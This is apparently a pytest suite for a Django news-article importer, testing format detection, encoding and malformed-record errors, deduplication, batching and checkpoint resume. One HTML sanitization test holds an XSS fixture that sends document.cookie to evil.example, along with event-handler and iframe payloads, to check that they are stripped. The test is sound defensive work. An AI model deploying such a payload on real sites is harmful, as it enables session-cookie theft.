"""Every input format, and every kind of bad record, through a real job run (in this process)."""

import io
import json
import zipfile
from pathlib import Path

import pytest

from annotations.importing import formats
from annotations.jobmessages import displayed_errors
from annotations.models import Article, ImportJob, Sentence
from annotations.segmentation import split_sentences
from tests.importing.conftest import article_page

SAMPLE = Path(__file__).resolve().parents[2] / "annotations/demo_data/spain-probe-article.txt"
Status = ImportJob.Status


def body_of(n: int) -> str:
    return f"Officials said the plan {n} would cut emissions by 40 percent. Critics disagreed."


def jsonl(*rows) -> bytes:
    return "\n".join(r if isinstance(r, str) else json.dumps(r) for r in rows).encode()


def assert_whole(article: Article) -> None:
    """Stored as split: every sentence's offsets point at its text in the body."""
    sentences = list(article.sentences.all())
    assert sentences
    for s in sentences:
        assert article.body[s.start : s.end] == s.text


def test_plain_text_sample_article_keeps_its_headline_as_first_sentence(import_bytes):
    job = import_bytes(SAMPLE.read_bytes(), "spain-probe-article.txt")
    assert (job.status, job.format, job.created, job.total) == (Status.SUCCEEDED, "text", 1, 1)
    article = Article.objects.get()
    assert article.title == "Spain Probes X, Meta, TikTok Over AI Generated Child Abuse Content"
    assert article.sentences.count() == 27
    assert article.sentences.first().text == article.title
    assert article.import_job == job
    assert_whole(article)


def test_jsonl_keeps_fields_and_unknown_fields_as_metadata(import_bytes):
    row = {
        "title": "Plan",
        "body": body_of(1),
        "url": "https://news.example.org/plan",
        "publisher": "Example News",
        "authors": ["Ana Ruiz", "Ben Ode"],
        "published_at": "2024-05-01T10:00:00+02:00",
        "language": "es",
        "section": "climate",
    }
    job = import_bytes(jsonl(row), "day.jsonl")
    assert job.status == Status.SUCCEEDED
    article = Article.objects.get()
    assert (article.url, article.publisher, article.language) == (row["url"], "Example News", "es")
    assert article.authors == ["Ana Ruiz", "Ben Ode"]
    assert article.published_at.isoformat() == "2024-05-01T08:00:00+00:00"
    assert article.metadata == {"section": "climate"}
    assert_whole(article)


def test_jsonl_bad_lines_are_reported_by_line_and_good_lines_kept(import_bytes):
    content = jsonl(
        {"title": "One", "body": body_of(1)},
        '{"title": "broken", "body": ',
        {"title": "No body"},
        "",
        {"title": "Four", "text": body_of(4), "published_at": "next tuesday"},
        {"title": "Five", "text": body_of(5)},
    )
    job = import_bytes(content, "day.jsonl")
    assert (job.status, job.created, job.failed, job.total) == (Status.PARTIAL, 2, 3, 5)
    assert [e["line"] for e in job.errors] == [2, 3, 5]
    assert job.errors[0]["message"].startswith("Malformed JSON")
    assert "body" in job.errors[1]["message"]
    assert "not a date" in job.errors[2]["message"]
    assert set(Article.objects.values_list("title", flat=True)) == {"One", "Five"}


def test_json_array_and_single_object(import_bytes):
    rows = [{"title": f"T{n}", "text": body_of(n)} for n in range(3)]
    assert import_bytes(json.dumps(rows, indent=2).encode(), "a.json").created == 3
    single = json.dumps({"title": "One", "body": body_of(9)}, indent=2).encode()
    job = import_bytes(single, "b.json")
    assert (job.format, job.created) == ("json", 1)


def test_json_array_malformed_midway_keeps_earlier_records(import_bytes):
    content = b'[{"title": "A", "body": "Alpha is here."}, {"title": "B", "body": "Beta'
    job = import_bytes(content, "a.json")
    assert (job.status, job.created, job.failed) == (Status.PARTIAL, 1, 1)
    assert job.errors[0]["record"] == 2
    assert "could not be read" in job.errors[0]["message"]


def test_csv_with_bom_semicolons_and_multiline_body(import_bytes):
    content = '\ufefftitle;body;url\nOne;"First line.\nSecond line.";https://x.example/1\n'
    job = import_bytes(content.encode("utf-8"), "export.csv")
    assert (job.status, job.format, job.created) == (Status.SUCCEEDED, "csv", 1)
    article = Article.objects.get()
    assert article.body == "First line.\nSecond line."
    assert article.url == "https://x.example/1"


def test_csv_in_windows_1252_is_decoded(import_bytes):
    content = "title,body\nCafé,El niño comió piñas en señal de protesta. ¿Verdad? Sí.\n"
    job = import_bytes(content.encode("cp1252"), "es.csv")
    assert job.status == Status.SUCCEEDED
    assert Article.objects.get().body.startswith("El niño comió piñas")


def test_line_in_another_encoding_is_an_error_and_the_rest_imports(import_bytes):
    good = json.dumps({"title": "Año", "body": "El año empezó bien."}, ensure_ascii=False)
    bad = json.dumps({"title": "Mal", "body": "Año malo."}, ensure_ascii=False)
    content = good.encode() + b"\n" + bad.encode("latin-1") + b"\n"
    job = import_bytes(content, "mixed.jsonl")
    assert (job.status, job.created, job.failed) == (Status.PARTIAL, 1, 1)
    assert displayed_errors(job.errors) == [{"line": 2, "message": job.errors[0]["message"]}]
    assert "not valid utf-8" in job.errors[0]["message"]


@pytest.mark.parametrize(
    ("content", "name", "reason"),
    [
        (b"", "empty.jsonl", "The file is empty."),
        (b"  \n\n", "blank.txt", "The file is empty."),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00", "photo.txt", "binary file"),
        (b"PK\x03\x04garbage", "notes.zip", "Not a readable ZIP"),
    ],
)
def test_unreadable_file_fails_with_the_reason(import_bytes, content, name, reason):
    job = import_bytes(content, name)
    assert job.status == Status.FAILED
    assert reason in job.errors[-1]["message"]
    assert job.finished_at is not None
    assert not Article.objects.exists()


def test_oversized_record_is_an_error_and_the_next_line_imports(import_bytes, settings):
    settings.IMPORT_MAX_RECORD_BYTES = 2000
    content = jsonl({"title": "Huge", "body": "x " * 5000}, {"title": "Ok", "body": body_of(1)})
    job = import_bytes(content, "big.jsonl")
    assert (job.status, job.created, job.failed) == (Status.PARTIAL, 1, 1)
    assert job.errors[0]["line"] == 1
    assert "larger than" in job.errors[0]["message"]


def test_html_file_keeps_the_article_and_drops_clutter_scripts_and_handlers(import_bytes):
    hostile = (
        '<p onclick="steal()">Officials <b onmouseover="x()">confirmed</b> the budget '
        "was cut by a third, according to the finance ministry report.</p>"
        "<script>document.location='https://evil.example/'+document.cookie</script>"
        '<img src=x onerror="alert(1)"><iframe src="https://evil.example/"></iframe>'
    )
    page = article_page(
        "Budget cut by a third",
        ["The finance ministry published its annual report on Monday morning in Madrid."],
        extra=hostile,
    )
    job = import_bytes(page, "story.html")
    assert (job.status, job.format) == (Status.SUCCEEDED, "html")
    article = Article.objects.get()
    assert article.title == "Budget cut by a third"
    assert article.body.split("\n")[0] == "Budget cut by a third"
    assert "Officials confirmed the budget was cut by a third" in article.body
    for junk in ("<", "onclick", "onerror", "steal", "cookie", "Most read", "Copyright", "Share"):
        assert junk not in article.body
    assert article.publisher == "Daily Example"
    assert article.authors == ["Ana Ruiz"]
    assert_whole(article)


def test_html_inside_a_json_body_is_stored_as_plain_text(import_bytes):
    row = {"title": "T", "body": "<p>One &amp; two.</p><script>alert(1)</script><p>Three.</p>"}
    import_bytes(jsonl(row), "cms.jsonl")
    assert Article.objects.get().body == "One & two.\n\nThree."


def test_bodies_are_stored_nfc(import_bytes):
    decomposed = "Cafe\u0301 society met in Bogota\u0301 today."
    import_bytes(jsonl({"title": "T", "body": decomposed}), "nfd.jsonl")
    assert Article.objects.get().body == "Café society met in Bogotá today."


def zip_of(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def test_zip_of_several_formats_reports_errors_per_file(import_bytes):
    archive = zip_of(
        {
            "a.jsonl": jsonl({"title": "A", "body": body_of(1)}, "{oops"),
            "b.txt": b"Headline B\nBody of B is here.",
            "c.csv": b"title,body\nC,The third story is here.\n",
            "empty.txt": b"",
            "inner.zip": zip_of({"x.txt": b"X"}),
        }
    )
    job = import_bytes(archive, "day.zip")
    assert (job.status, job.format, job.created) == (Status.PARTIAL, "zip", 3)
    assert {"file": "a.jsonl", "line": 2, "message": job.errors[0]["message"]} == (
        displayed_errors(job.errors)[0]
    )
    messages = {e["file"]: e["message"] for e in job.errors}
    assert messages["empty.txt"] == "The file is empty."
    assert "inside archives" in messages["inner.zip"]


def test_zip_with_too_many_entries_is_refused(import_bytes, settings):
    settings.IMPORT_ZIP_MAX_ENTRIES = 3
    job = import_bytes(zip_of({f"{n}.txt": b"T\nBody." for n in range(5)}), "many.zip")
    assert job.status == Status.FAILED
    assert "5 entries; the limit is 3" in job.errors[-1]["message"]


def test_duplicates_by_url_and_by_content_are_counted_not_stored(import_bytes):
    first = jsonl(
        {"title": "A", "body": body_of(1), "url": "https://x.example/a"},
        {"title": "B", "body": body_of(2)},
    )
    import_bytes(first, "one.jsonl")
    again = jsonl(
        {"title": "A again", "body": body_of(1), "url": "https://x.example/a"},  # same URL, text
        {"title": "B again", "body": body_of(2) + "\n"},  # same text once normalised
        {"title": "C", "body": body_of(4), "url": "https://x.example/c"},
        {"title": "C twice", "body": body_of(4)},  # repeated within the batch
        {"title": "C again", "body": body_of(5), "url": "https://x.example/c"},  # and its URL
        # A stored URL with a new text is not a duplicate: tests/revisions/test_reimport.py.
    )
    job = import_bytes(again, "two.jsonl")
    assert (job.status, job.created, job.updated, job.duplicates, job.failed) == (
        Status.SUCCEEDED,
        1,
        0,
        4,
        0,
    )
    assert Article.objects.count() == 3


def test_url_list_file_is_detected():
    head = b"https://a.example/1\n\nhttps://b.example/2\n"
    assert formats.detect_format("list.txt", head) == "urls"
    assert formats.detect_format("story.txt", b"Headline\nhttps://a.example is cited.") == "text"


def test_a_batch_is_saved_with_a_fixed_number_of_queries(
    import_bytes, settings, django_assert_max_num_queries
):
    settings.IMPORT_BATCH_SIZE = 500
    content = jsonl(*({"title": f"T{n}", "body": body_of(n)} for n in range(400)))
    # Job set-up and finish, plus per batch: URL check, lock, existing check, bulk insert,
    # COPY of sentences, progress: the same for 4 or 400 articles.
    with django_assert_max_num_queries(25):
        job = import_bytes(content, "many.jsonl")
    assert job.created == 400
    assert Sentence.objects.count() == 800


def test_batches_commit_progress_and_checkpoint(import_bytes, settings):
    settings.IMPORT_BATCH_SIZE = 3
    content = jsonl(*({"title": f"T{n}", "body": body_of(n)} for n in range(10)))
    job = import_bytes(content, "many.jsonl")
    assert (job.checkpoint, job.created, job.total) == (10, 10, 10)


def test_resumes_from_checkpoint_without_duplicating(import_bytes, settings, reviewer):
    from django.core.files.base import ContentFile

    from annotations.importing.run import run_import
    from annotations.services import start_import

    content = jsonl(*({"title": f"T{n}", "body": body_of(n)} for n in range(6)))
    job = start_import(created_by=reviewer, upload=ContentFile(content, name="r.jsonl"))
    # What a killed worker leaves: the first batch (3 records) committed with its checkpoint.
    settings.IMPORT_BATCH_SIZE = 3
    ImportJob.objects.filter(pk=job.pk).update(status=Status.RUNNING)
    first = jsonl(*({"title": f"T{n}", "body": body_of(n)} for n in range(3)))
    done = start_import(created_by=reviewer, upload=ContentFile(first, name="first.jsonl"))
    run_import(done.pk)
    ImportJob.objects.filter(pk=job.pk).update(checkpoint=3, created=3)
    job = run_import(job.pk)
    assert (job.status, job.created, job.duplicates) == (Status.SUCCEEDED, 6, 0)
    assert Article.objects.count() == 6


def test_text_postgresql_cannot_store_is_a_record_error_and_the_rest_imports(import_bytes):
    # JSON may escape half of a surrogate pair or a NUL; UTF-8 text in PostgreSQL holds neither.
    content = (
        b'{"title": "Half \\ud800 pair", "body": "A broken character. Then more."}\n'
        b'{"title": "Nul", "body": "A NUL \\u0000 inside."}\n'
        + jsonl({"title": "Fine", "body": body_of(3)})
    )
    job = import_bytes(content, "bad-unicode.jsonl")
    assert (job.status, job.created, job.failed) == (Status.PARTIAL, 1, 2), job.errors
    assert [e["line"] for e in job.errors] == [1, 2]
    assert "lone UTF-16 surrogate" in job.errors[0]["message"]
    assert "NUL" in job.errors[1]["message"]
    assert list(Article.objects.values_list("title", flat=True)) == ["Fine"]


def test_sentences_of_every_batch_are_the_bodies_split(import_bytes, settings):
    # From the second batch on the splitting runs in a process of its own (importing.splitting).
    settings.IMPORT_BATCH_SIZE = 2
    sample = SAMPLE.read_text(encoding="utf-8")
    content = jsonl(*({"title": f"T{n}", "body": f"{sample}\nRevision {n}."} for n in range(7)))
    job = import_bytes(content, "many.jsonl")
    assert job.created == 7
    for article in Article.objects.all():
        stored = article.sentences.order_by("position")
        spans = split_sentences(article.body, article.language)
        assert [(s.position, s.start, s.end, s.text, s.paragraph) for s in stored] == [
            (position, s.start, s.end, s.text, s.paragraph) for position, s in enumerate(spans)
        ]
